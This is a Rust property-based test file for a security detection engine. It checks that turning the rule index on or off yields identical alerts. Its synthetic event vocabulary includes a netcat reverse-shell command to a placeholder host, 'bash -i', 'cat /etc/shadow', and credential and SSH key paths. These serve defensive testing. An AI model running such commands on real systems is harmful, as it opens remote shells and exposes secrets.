//! The candidate index never changes what fires: each rule set is run with
//! the index on and off (`RuleSet::set_indexed`) over the same events and
//! must raise the same alerts, in the same order — on the shipped rules
//! (with their test cases' events and a generated corpus), on Falco's three
//! upstream files (read from `<repo>/../shared/falco/`, skipped with a
//! message when absent outside CI), and on generated rule sets (proptest)
//! mixing process, path, port, CIDR, regex and glob terms.

use std::path::{Path, PathBuf};
use std::sync::Arc;

use proptest::prelude::*;
use vigil_engine::{
    Detail, Evaluator, Event, EventType, FileInfo, NetInfo, OpInfo, Process, RuleSet,
};

#[path = "common/falco.rs"]
mod falco;

const NAMES: &[&str] = &[
    "sh", "bash", "nc", "ncat", "python3", "sshd", "sudo", "cat", "docker", "runc", "nginx",
    "curl", "kubectl", "systemd", "genbin3", "vi",
];
const EXES: &[&str] = &[
    "/usr/bin/sh",
    "/bin/bash",
    "/tmp/x",
    "/dev/shm/a",
    "/usr/sbin/sshd",
    "/usr/bin/nc",
    "/opt/gen1/bin",
    "",
];
const PATHS: &[&str] = &[
    "/etc/shadow",
    "/etc/sudoers",
    "/etc/pam.d/sshd",
    "/etc/passwd",
    "/etc/ld.so.preload",
    "/etc/crontab",
    "/etc/ssh/sshd_config",
    "/root/.ssh/authorized_keys",
    "/home/u/.bash_history",
    "/home/u/.aws/credentials",
    "/dev/shm/x",
    "/proc/1/environ",
    "/usr/bin/ls",
    "/bin/sh",
    "/tmp/x",
    "/var/run/docker.sock",
    "/var/log/syslog",
    "/lib/modules/x.ko",
    "/srv/gen4/abc.key",
    "/opt/gen2/secret",
    "/etc",
    "",
];
const PORTS: &[i64] = &[0, 22, 53, 443, 4444, 6667, 20003];
const ADDRS: &[&str] = &[
    "10.0.0.5",
    "127.0.0.1",
    "203.0.113.9",
    "::1",
    "169.254.169.254",
    "",
];
const CMDS: &[&str] = &[
    "sh -c id",
    "bash -i",
    "nc -e /bin/sh 1.2.3.4 4444",
    "cat /etc/shadow",
    "",
];

/// The parts an event is made of (see [`make_event`]).
type Parts = (
    usize,
    (usize, usize, usize, usize),
    (usize, u32, i64),
    (usize, usize, usize),
    bool,
);

/// One event of any kind from the vocabularies above.
fn make_event(
    (kind, (n, p, exe, cmd), (path, flags, ret), (port, addr, anc), tty): Parts,
) -> Event {
    let kind = EventType::ALL[kind % EventType::COUNT];
    let mut ev = Event::new(kind);
    ev.ret = ret;
    let cmdline = CMDS[cmd % CMDS.len()].to_string();
    ev.proc = Arc::new(Process {
        pid: 100 + n as i64,
        ppid: 1,
        name: NAMES[n % NAMES.len()].into(),
        exe: EXES[exe % EXES.len()].into(),
        args: cmdline
            .split_whitespace()
            .skip(1)
            .map(String::from)
            .collect(),
        cmdline,
        uid: if tty { 0 } else { 1000 },
        pname: NAMES[p % NAMES.len()].into(),
        pexe: EXES[(exe + 1) % EXES.len()].into(),
        ancestors: vec![
            NAMES[p % NAMES.len()].into(),
            NAMES[anc % NAMES.len()].into(),
        ],
        tty,
        ..Default::default()
    });
    let path = PATHS[path % PATHS.len()].to_string();
    let net = NetInfo {
        proto: "tcp".into(),
        family: "inet".into(),
        saddr: "10.0.0.5".into(),
        sport: 40000,
        daddr: ADDRS[addr % ADDRS.len()].into(),
        dport: PORTS[port % PORTS.len()],
    };
    ev.detail = match kind {
        EventType::Exec => Detail::None,
        EventType::Open => Detail::File(FileInfo {
            path_raw: path.clone(),
            path_lexical: path.clone(),
            path_resolved: path.clone(),
            path,
            flags,
            ..Default::default()
        }),
        EventType::Connect | EventType::Accept => Detail::Net(net),
        EventType::Retransmit => Detail::Retransmit {
            net,
            state: "ESTABLISHED".into(),
        },
        EventType::Exit => Detail::Exit { code: 0, signal: 0 },
        _ => Detail::Op(Box::new(OpInfo {
            path_raw: path.clone(),
            source: PATHS[(port + addr) % PATHS.len()].into(),
            path,
            mode: 0o4755,
            request: "PTRACE_ATTACH".into(),
            domain: "AF_PACKET".into(),
            ..Default::default()
        })),
    };
    ev
}

fn parts() -> impl Strategy<Value = Parts> {
    (
        // open, connect and exec most of the time, any kind sometimes
        prop_oneof![
            4 => Just(1usize),
            2 => Just(2usize),
            2 => Just(0usize),
            2 => 0usize..EventType::COUNT,
        ],
        (0usize..64, 0usize..64, 0usize..64, 0usize..64),
        (
            0usize..64,
            prop::sample::select(&[0u32, 0o1, 0o2, 0o101, 0o1101, 0o2000000][..]),
            prop::sample::select(&[-2i64, 0, 3][..]),
        ),
        (0usize..64, 0usize..64, 0usize..64),
        any::<bool>(),
    )
}

/// A deterministic corpus covering every kind and every vocabulary entry.
fn corpus(n: usize) -> Vec<Event> {
    (0..n)
        .map(|i| {
            make_event((
                i,
                (i / 3, i / 7 + 1, i / 5, i / 11),
                (i / 2, [0, 0o1, 0o101, 0o2000000][i % 4], [0, 3, -2][i % 3]),
                (i / 4, i / 6, i / 9),
                i % 5 == 0,
            ))
        })
        .collect()
}

/// The alerts (rule and output) each event raises.
fn alerts(rs: &Arc<RuleSet>, evs: &[Event]) -> Vec<Vec<(String, String)>> {
    let mut e = Evaluator::new(rs.clone(), "h");
    let mut out = Vec::new();
    evs.iter()
        .map(|ev| {
            out.clear();
            e.evaluate(ev, &mut out);
            out.iter()
                .map(|a| (a.rule.to_string(), a.output.clone()))
                .collect()
        })
        .collect()
}

/// Runs `evs` through the set with the index on and off; returns how many
/// alerts were raised (the same either way) and the conditions evaluated
/// with the index on and off.
fn same_with_and_without_index(on: RuleSet, mut off: RuleSet, evs: &[Event]) -> (usize, u64, u64) {
    off.set_indexed(false);
    let (on, off) = (Arc::new(on), Arc::new(off));
    let a = alerts(&on, evs);
    let b = alerts(&off, evs);
    for (i, (x, y)) in a.iter().zip(&b).enumerate() {
        assert_eq!(x, y, "index on/off disagree on event {i}: {:?}", evs[i]);
    }
    let work = |rs: &Arc<RuleSet>| {
        let mut e = Evaluator::new(rs.clone(), "h");
        let mut out = Vec::new();
        for ev in evs {
            e.evaluate(ev, &mut out);
        }
        e.stats().rules_evaluated
    };
    let r = (a.iter().map(Vec::len).sum(), work(&on), work(&off));
    eprintln!(
        "alerts {}, conditions evaluated: index on {}, off {}",
        r.0, r.1, r.2
    );
    r
}

fn repo() -> PathBuf {
    PathBuf::from(env!("CARGO_MANIFEST_DIR")).join("..")
}

/// Every event of the shipped rules' test cases.
fn case_events(dir: &Path) -> Vec<Event> {
    let mut files: Vec<PathBuf> = std::fs::read_dir(dir)
        .unwrap()
        .filter_map(|e| e.ok().map(|e| e.path()))
        .filter(|p| p.extension().is_some_and(|x| x == "yaml"))
        .collect();
    files.sort();
    files
        .iter()
        .flat_map(|f| {
            let file = vigil_engine::load_cases(f);
            assert!(file.errors.is_empty(), "{}: {:?}", f.display(), file.errors);
            file.cases.into_iter().flat_map(|c| c.events)
        })
        .collect()
}

#[test]
fn shipped_rules_fire_the_same_with_the_index_off() {
    let load = || RuleSet::load(&[repo().join("rules")]).unwrap();
    let mut evs = case_events(&repo().join("rules/tests"));
    assert!(evs.len() > 100, "only {} case events", evs.len());
    evs.extend(corpus(3000));
    let (n, on, off) = same_with_and_without_index(load(), load(), &evs);
    // the cases are written to fire: a comparison of nothing proves nothing
    assert!(n > 100, "only {n} alerts");
    assert!(on < off, "the index saved no work: {on} vs {off}");
}

#[test]
fn falco_rules_fire_the_same_with_the_index_off() {
    let names = [
        "falco_rules.yaml",
        "falco-incubating_rules.yaml",
        "falco-sandbox_rules.yaml",
    ];
    let Some(files) = names
        .iter()
        .map(|n| falco::falco_file(n))
        .collect::<Option<Vec<_>>>()
    else {
        return;
    };
    let load = || RuleSet::load(&files).unwrap();
    let mut evs = corpus(6000);
    evs.extend(case_events(&repo().join("rules/tests")));
    let (n, on, off) = same_with_and_without_index(load(), load(), &evs);
    assert!(n > 50, "only {n} alerts");
    assert!(on < off, "the index saved no work: {on} vs {off}");
}

fn q(s: &str) -> String {
    format!("\"{s}\"")
}

/// A term of a generated condition: the indexable shapes (literals on
/// process, path, port and address fields) and some that are not.
fn leaf() -> impl Strategy<Value = String> {
    let name = prop::sample::select(NAMES).prop_map(q);
    let path = prop::sample::select(PATHS).prop_map(q);
    let port = prop::sample::select(PORTS);
    let part = prop::sample::select(
        &[
            "/etc/",
            "/etc/s",
            "/",
            "/tmp",
            "/root/.ssh/",
            "shadow",
            "/x",
            ".key",
        ][..],
    )
    .prop_map(q);
    prop_oneof![
        name.clone().prop_map(|n| format!("proc.name == {n}")),
        (name.clone(), name.clone()).prop_map(|(a, b)| format!("proc.pname in [{a}, {b}]")),
        name.clone().prop_map(|n| format!("proc.name != {n}")),
        Just("proc.name in shells".to_string()),
        prop::sample::select(EXES).prop_map(|e| format!("proc.exe == {}", q(e))),
        part.clone()
            .prop_map(|p| format!("proc.exe.starts_with({p})")),
        path.clone().prop_map(|p| format!("file.path == {p}")),
        (path.clone(), path).prop_map(|(a, b)| format!("file.path in [{a}, {b}]")),
        part.clone()
            .prop_map(|p| format!("file.path.starts_with({p})")),
        part.clone()
            .prop_map(|p| format!("file.path.ends_with({p})")),
        part.clone()
            .prop_map(|p| format!("file.path.contains({p})")),
        Just("glob(file.path, \"/etc/**\")".to_string()),
        Just("glob(file.path, \"/etc/*\")".to_string()),
        Just("glob(file.path, \"**/shadow\")".to_string()),
        Just("regex(file.path, \"^/(etc|root)/s\")".to_string()),
        Just("regex(file.path, \"^/srv/gen[0-9]/[a-z]+\\\\.key$\")".to_string()),
        Just("regex(file.path, \"shadow$\")".to_string()),
        Just("regex(proc.cmdline, \"^(sh|bash) -[ci]\")".to_string()),
        port.clone().prop_map(|p| format!("net.dport == {p}")),
        (port.clone(), port).prop_map(|(a, b)| format!("net.dport in [{a}, {b}]")),
        Just("net.dport in ports".to_string()),
        prop::sample::select(
            &[
                "10.0.0.0/8",
                "127.0.0.1",
                "::1/128",
                "0.0.0.0/0",
                "169.254.0.0/16"
            ][..]
        )
        .prop_map(|c| format!("cidr(net.daddr, {})", q(c))),
        prop::sample::select(ADDRS).prop_map(|a| format!("net.daddr == {}", q(a))),
        Just("file.write".to_string()),
        Just("evt.ret >= 0".to_string()),
        Just("proc.tty".to_string()),
        Just("\"sh\" in proc.ancestors".to_string()),
        Just("proc.cmdline.contains(\"-i\")".to_string()),
        Just("false".to_string()),
        Just("true".to_string()),
    ]
}

fn cond() -> impl Strategy<Value = String> {
    leaf().prop_recursive(3, 12, 3, |inner| {
        prop_oneof![
            (inner.clone(), inner.clone()).prop_map(|(a, b)| format!("{a} && {b}")),
            (inner.clone(), inner.clone()).prop_map(|(a, b)| format!("({a}) || ({b})")),
            inner.prop_map(|a| format!("!({a})")),
        ]
    })
}

fn generated_set(rules: &[(String, Vec<&str>, bool)]) -> RuleSet {
    let mut src =
        String::from("- list: shells\n  items: [sh, bash]\n- list: ports\n  items: [22, 4444]\n");
    for (i, (c, kinds, exc)) in rules.iter().enumerate() {
        src.push_str(&format!(
            "- rule: r{i}\n  events: [{}]\n  condition: '{}'\n  output: \"r{i} {{proc.name}}\"\n  priority: info\n",
            kinds.join(", "),
            c.replace('\'', "''")
        ));
        if *exc {
            src.push_str("  exceptions:\n    - name: e\n      condition: proc.name == \"vi\"\n");
        }
    }
    RuleSet::from_sources(&[("g.yaml".into(), src)])
        .unwrap_or_else(|e| panic!("generated rules failed to load: {e}\n{rules:?}"))
}

/// A rule's kinds: open and connect (so every generated field is carried by
/// one of them) and some others.
fn kinds() -> impl Strategy<Value = Vec<&'static str>> {
    prop::sample::subsequence(&["exec", "accept", "unlink", "chmod"][..], 0..3).prop_map(|mut v| {
        v.extend(["open", "connect"]);
        v
    })
}

proptest! {
    #![proptest_config(ProptestConfig { cases: 200, .. ProptestConfig::default() })]

    #[test]
    fn generated_sets_fire_the_same_with_the_index_off(
        rules in prop::collection::vec((cond(), kinds(), any::<bool>()), 1..12),
        evs in prop::collection::vec(parts(), 1..24),
    ) {
        let evs: Vec<Event> = evs.into_iter().map(make_event).collect();
        same_with_and_without_index(generated_set(&rules), generated_set(&rules), &evs);
    }
}
